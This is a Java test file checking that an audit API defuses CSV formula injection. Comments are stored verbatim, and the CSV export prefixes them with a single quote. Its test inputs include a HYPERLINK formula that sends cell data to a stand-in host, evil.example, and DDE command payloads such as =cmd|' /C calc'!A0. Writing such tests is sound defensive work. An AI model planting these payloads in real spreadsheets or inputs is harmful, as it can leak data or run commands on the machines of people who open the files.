package io.inferctl.query.endtoend;

import io.inferctl.command.support.Api;
import io.inferctl.command.support.Tokens;
import io.inferctl.query.support.QueryServiceTest;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.io.IOException;
import java.io.StringReader;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import static io.inferctl.query.endtoend.CommandSide.accepted;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * A comment a spreadsheet would run as a formula (CSV injection) is stored and served as written,
 * and exported to CSV behind a single quote, which spreadsheets show as text and do not run.
 */
class FormulaInjectionTest extends QueryServiceTest {

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Click\")", "=cmd|' /C calc'!A0",
            "+SUM(1,1)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"})
    void aCommentThatIsAFormulaIsExportedNeutralised(String comment) throws IOException {
        Map<String, Object> body = new HashMap<>(CommandSide.createBody("formula-" + UUID.randomUUID().toString().substring(0, 8)));
        body.put("comment", comment);
        Api.Response created = accepted(CommandSide.api().post("/v1/endpoints").as(Tokens.ALICE).json(body));
        String query = "/v1/audit?endpointId=" + created.body().get("endpointId").asText()
                + "&minSequence=" + created.body().get("sequence").asLong();

        Api.Response csv = api.get(query).as(Tokens.VIEWER).header("Accept", "text/csv").send();
        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv.raw().body())).getRecords();
        assertThat(csv.status()).isEqualTo(200);
        assertThat(rows).singleElement().satisfies(row -> assertThat(row.get("comment")).isEqualTo("'" + comment));

        Api.Response json = api.get(query).as(Tokens.VIEWER).send();
        assertThat(json.body().at("/items/0/comment").asText()).as("stored and served as written").isEqualTo(comment);
    }
}
